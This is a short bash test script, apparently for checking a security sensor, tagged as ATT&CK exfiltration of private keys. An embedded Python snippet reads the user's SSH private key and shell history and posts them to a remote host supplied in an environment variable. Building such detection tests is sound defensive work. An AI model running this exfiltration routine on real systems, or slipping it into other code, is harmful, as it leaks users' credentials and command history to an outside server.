#!/usr/bin/env bash
# tactic: exfiltration
# technique: T1041 Exfiltration Over C2 Channel; T1552.004 Private Keys
# behaviour: Python posts the account's own SSH private key and shell history to an outside server with urllib
# as: user
# needs: remote
# expect: credential_access, new_destination
set -u
mkdir -p "$HOME/.ssh"; [ -f "$HOME/.ssh/id_ed25519" ] || ssh-keygen -q -t ed25519 -N '' -f "$HOME/.ssh/id_ed25519"
python3 - "$SNTL_REMOTE" <<'PY'
import os, sys, urllib.request
h = os.path.expanduser("~")
body = b""
for f in (".ssh/id_ed25519", ".bash_history"):
    try:
        body += open(os.path.join(h, f), "rb").read()
    except OSError:
        pass
urllib.request.urlopen(f"http://{sys.argv[1]}:8080/k", data=body, timeout=10).read()
PY
